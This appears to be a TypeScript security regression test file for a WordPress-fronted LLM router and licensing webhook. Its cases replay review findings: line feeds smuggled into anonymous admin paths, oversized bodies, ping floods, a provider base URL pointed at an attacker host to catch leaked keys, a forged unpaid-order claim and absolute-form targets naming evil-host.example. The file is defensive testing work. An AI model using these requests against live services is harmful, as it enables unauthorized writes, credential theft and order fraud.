import { createHmac } from 'node:crypto';
import { randomLoopbackAddress } from '../../../support/loopback';
import { stack } from '../../../support/stack';
import { restOrder } from '../../../support/woo-webhook';
import { attemptsIn, auditRowsOf } from '../audit-rows';
import type { Fixture } from '../fixture';
import { rightful, signedHeaders, type HostileCase } from '../hostile-case';
import { attackerHost } from '../recorder';
import { ATTACKED_ROUTES, HOSTILE_ROUTES, fillPath, pathParameters } from '../route-table';
import type { HostileAnswer, HostileRequest } from '../ways';

/**
 * The findings of issue 11 that a single request (or a short run of them) reproduces, each as a
 * case of the corpus, and what the corpus itself found (`finding: 'new'`). Findings 6 (replay on a second worker), 8 (concurrency and stream limits)
 * and 9 (idempotency key bytes, AES-GCM tags, library sync) need more than one worker, time or
 * the CLI, and are proved by their own suites.
 */
const find = (method: string, path: string) => HOSTILE_ROUTES.find((item) => item.method === method && item.path === path)!;
const CHAT = find('POST', '/wp-json/llm/router/v1/chat');
const WEBHOOK = find('POST', '/wp-json/svc-license/v1/webhook/woo-order-paid');
const TEMPLATES = find('GET', '/wp-json/svc/v1/image-templates');
const SAVE_PROVIDER = find('PUT', '/wp-json/svc-hub/v1/admin/providers/:name');
const ADMIN_MODELS = find('GET', '/wp-json/svc-hub/v1/admin/models');
const SAVE_PRICE = find('PUT', '/wp-json/svc-hub/v1/admin/prices/*model');
const PROVIDER = 'openrouter';
const PROVIDER_PATH = `/wp-json/svc-hub/v1/admin/providers/${PROVIDER}`;

const failureLimit = () => Number(stack().workerEnv.SVC_WEBHOOK_FAILURE_LIMIT ?? 20);
const storeSigned = (fixture: Fixture, body: string, from: string): HostileRequest => ({
  method: 'POST',
  target: WEBHOOK.path,
  body,
  from,
  headers: {
    'Content-Type': 'application/json',
    'X-WC-Webhook-Source': fixture.store.source,
    'X-WC-Webhook-Topic': 'order.updated',
    'X-WC-Webhook-Signature': createHmac('sha256', fixture.store.secret).update(body).digest('base64'),
  },
});

/**
 * A refusal of an anonymous admin request: 401/403/404, or the shell's own 400 for a control
 * character in the path (data.params.path) — never a 400 from the handler, which would mean it ran.
 */
const REFUSED_ANONYMOUS = [400, 401, 403, 404];
function refusedBeforeHandler(answers: HostileAnswer[]): string[] {
  return answers
    .filter((answer) => answer.status === 400 && !(answer.body?.data as { params?: Record<string, unknown> } | undefined)?.params?.path)
    .map((answer) => `a 400 that is not the path refusal (the handler ran): ${answer.body?.code} ${answer.body?.message}`);
}

/** Finding 1: anonymous admin requests with a line feed in a path parameter, both permalink styles. */
function anonymousAdmin(): HostileCase[] {
  return ATTACKED_ROUTES.filter((route) => route.auth === 'admin' && pathParameters(route).length > 0).flatMap((route) =>
    (['wordpress-plain', 'wordpress'] as const).map((way): HostileCase => ({
      family: 'findings',
      attack: 'an anonymous admin request with %0A in a path parameter',
      finding: 'finding 1',
      route,
      way,
      statuses: REFUSED_ANONYMOUS,
      check: refusedBeforeHandler,
      requests: (fixture) => {
        const values = Object.fromEntries(pathParameters(route).map((name) => [name, `${route.params![name]!(fixture)}%0Ax`]));
        const body = route.body ? JSON.stringify(route.body(fixture)) : undefined;
        const headers: Record<string, string> = body === undefined ? {} : { 'Content-Type': 'application/json' };
        return [{ method: route.method, target: fillPath(route, values), body, headers }];
      },
    })),
  );
}

/**
 * Finding 1 as the review found it: an anonymous price write. `ollama/<anything>` is a known
 * model id (an open provider), so the handler accepts a name with a line feed in it.
 */
function anonymousPriceWrite(): HostileCase[] {
  return (['wordpress-plain', 'wordpress'] as const).map((way): HostileCase => ({
    family: 'findings',
    attack: 'an anonymous price write with %0A in the model id',
    finding: 'finding 1',
    route: SAVE_PRICE,
    way,
    statuses: REFUSED_ANONYMOUS,
    check: refusedBeforeHandler,
    requests: () => {
      const body = JSON.stringify({ input_per_mtok: 1, output_per_mtok: 2 });
      return [
        {
          method: 'PUT',
          target: `/wp-json/svc-hub/v1/admin/prices/ollama/hostile-${way}%0Aprice`,
          body,
          headers: { 'Content-Type': 'application/json' },
        },
      ];
    },
  }));
}

function tooLargeError(): HostileCase[] {
  const zeros = `{"model":"mock/echo","messages":[${new Array(Math.floor((990 * 1024) / 2)).fill('0').join(',')}]}`;
  return (['wordpress', 'wordpress-plain', 'direct'] as const).map((way) => ({
    family: 'findings',
    attack: 'a 990 KB messages:[0,…] body (answer < 8 KiB)',
    finding: 'finding 2',
    route: CHAT,
    way,
    statuses: [400, 413],
    requests: (fixture) => [rightful(CHAT, way, fixture, CHAT.path, zeros)],
  }));
}

/**
 * Finding 3: pings were stored in full without limit. Each is answered 200 (WooCommerce shows
 * anything else as an error) and counts against nobody (round 2, item 3: webhook-gate.ts), so the
 * bound is on what is stored: at most the failure limit's number of pings a minute in full, the
 * rest tallied (docs/woocommerce-webhook.md, "What a flood can store").
 */
function pingFlood(): HostileCase[] {
  return (['wordpress', 'direct'] as const).map((way) => {
    const from = randomLoopbackAddress();
    return {
      family: 'findings',
      attack: '30 WooCommerce pings from one address',
      finding: 'finding 3',
      route: WEBHOOK,
      way,
      statuses: [200],
      requests: () =>
        Array.from({ length: 30 }, () => ({
          method: 'POST',
          target: WEBHOOK.path,
          from,
          body: 'webhook_id=12',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'User-Agent': 'WooCommerce/9.4.2 Hookshot (WordPress/6.7.1)' },
        })),
      check: async (answers: HostileAnswer[]) => {
        const rows = await auditRowsOf(from);
        // A run may cross into the next minute: two tally rows at most.
        const problems =
          rows.length <= failureLimit() + 2
            ? []
            : [`${answers.length} pings stored in ${rows.length} rows (at most ${failureLimit()} in full, the rest tallied)`];
        if (attemptsIn(rows) !== answers.length)
          problems.push(`the audit rows stand for ${attemptsIn(rows)} attempts, not ${answers.length}`);
        return problems;
      },
    };
  });
}

function providerBaseUrl(): HostileCase {
  return {
    family: 'findings',
    attack: "a provider's base URL changed without its key, then tested",
    finding: 'finding 4',
    route: SAVE_PROVIDER,
    way: 'direct',
    requests: () => {
      const change = JSON.stringify({ base_url: `${attackerHost.url}/v1` });
      const test = JSON.stringify({});
      return [
        {
          method: 'PUT',
          target: PROVIDER_PATH,
          body: change,
          headers: {
            'Content-Type': 'application/json',
            ...signedHeaders({ method: 'PUT', target: PROVIDER_PATH, body: change, user: '1' }),
          },
        },
        {
          method: 'POST',
          target: `${PROVIDER_PATH}/test`,
          body: test,
          headers: {
            'Content-Type': 'application/json',
            ...signedHeaders({ method: 'POST', target: `${PROVIDER_PATH}/test`, body: test, user: '1' }),
          },
        },
      ];
    },
    check: (_answers, fixture) =>
      attackerHost.seen
        .filter((request) => fixture.secrets.some((secret) => JSON.stringify(request.headers).includes(secret)))
        .map((request) => `a stored or environment provider key was sent to ${attackerHost.url}${request.url} (${request.method})`),
    cleanup: async () => {
      const target = PROVIDER_PATH;
      await fetch(`${stack().workerUrl}${target}`, { method: 'DELETE', headers: signedHeaders({ method: 'DELETE', target, user: '1' }) });
    },
  };
}

function unpaidClaim(): HostileCase[] {
  return (['wordpress', 'direct'] as const).map((way, index) => ({
    family: 'findings',
    attack: "an unpaid store order carrying another buyer's svc_hub_order_id",
    finding: 'finding 5',
    route: WEBHOOK,
    way,
    statuses: [200],
    requests: (fixture) => {
      const order = restOrder({
        id: 900_000 + index + Math.floor(Math.random() * 1000) * 10,
        hubOrderId: fixture.victimOrders[index]!,
        siteUrl: fixture.clientB.siteUrl,
        status: 'pending',
        paidAt: null,
        productId: 77,
        modifiedAt: new Date(),
      });
      return [storeSigned(fixture, JSON.stringify(order), randomLoopbackAddress())];
    },
  }));
}

function absoluteForm(): HostileCase[] {
  const evil = 'evil-host.example';
  const noEvil = (answers: HostileAnswer[]) =>
    answers
      .filter((answer) => JSON.stringify(answer.headers).includes(evil) || answer.text.includes(evil))
      .map((answer) => `the attacker's host is in the answer: ${JSON.stringify(answer.headers.link ?? answer.text.slice(0, 200))}`);
  const port = () => new URL(stack().workerUrl).port;
  return [
    {
      family: 'findings',
      attack: 'an absolute-form request target (Link headers)',
      finding: 'finding 7',
      route: TEMPLATES,
      way: 'direct',
      requests: () => [
        {
          method: 'GET',
          target: TEMPLATES.path,
          rawHead: `GET http://${evil}${TEMPLATES.path}?per_page=1&page=2 HTTP/1.1\r\nHost: 127.0.0.1:${port()}\r\n`,
        },
      ],
      check: noEvil,
    },
    {
      family: 'findings',
      attack: 'an absolute-form request target (the webhook reads its own body)',
      finding: 'finding 7',
      route: WEBHOOK,
      way: 'direct',
      requests: (fixture) => {
        const body = JSON.stringify(
          restOrder({
            id: 990_001,
            hubOrderId: 'ord_00000000000000000000000000',
            siteUrl: fixture.clientA.siteUrl,
            status: 'processing',
            paidAt: new Date(),
            modifiedAt: new Date(),
          }),
        );
        const signed = storeSigned(fixture, body, randomLoopbackAddress());
        const head = Object.entries(signed.headers!)
          .map(([name, value]) => `${name}: ${value}\r\n`)
          .join('');
        return [
          { ...signed, rawHead: `POST http://${evil}${WEBHOOK.path} HTTP/1.1\r\nHost: 127.0.0.1:${port()}\r\n${head}` },
          { ...signed, rawHead: `POST ${WEBHOOK.path} HTTP/1.1\r\nHost: 127.0.0.1:${port()}\r\n${head}` },
        ];
      },
      check: (answers) => {
        const [absolute, origin] = answers;
        return absolute?.status === origin?.status && absolute?.body?.code === origin?.body?.code
          ? noEvil(answers)
          : [
              `absolute form answered ${absolute?.status} ${absolute?.body?.code ?? ''}, origin form ${origin?.status} ${origin?.body?.code ?? ''}`,
            ];
      },
    },
  ];
}

/**
 * Found by the corpus (not in issue 11): an admin answer through WordPress larger than PHP's
 * output buffer goes out before WordPress sends its no-cache headers for a logged-in user
 * (after rest_pre_serve_request), so it loses them and PHP logs "headers already sent".
 */
function largeAdminAnswer(): HostileCase[] {
  return (['wordpress', 'wordpress-plain'] as const).map((way) => ({
    family: 'findings',
    attack: 'a large admin answer through WordPress keeps the no-cache headers',
    finding: 'new',
    route: ADMIN_MODELS,
    way,
    statuses: [200],
    requests: (fixture) => [rightful(ADMIN_MODELS, way, fixture, ADMIN_MODELS.path)],
    check: (answers) =>
      answers
        .filter((answer) => !/no-cache/.test(String(answer.headers['cache-control'] ?? '')))
        .map(
          (answer) =>
            `no no-cache header on a ${answer.bytes}-byte admin answer (Cache-Control: ${answer.headers['cache-control'] ?? 'absent'})`,
        ),
  }));
}

export function findingCases(): HostileCase[] {
  return [
    ...anonymousAdmin(),
    ...anonymousPriceWrite(),
    ...tooLargeError(),
    ...pingFlood(),
    providerBaseUrl(),
    ...unpaidClaim(),
    ...absoluteForm(),
    ...largeAdminAnswer(),
  ];
}
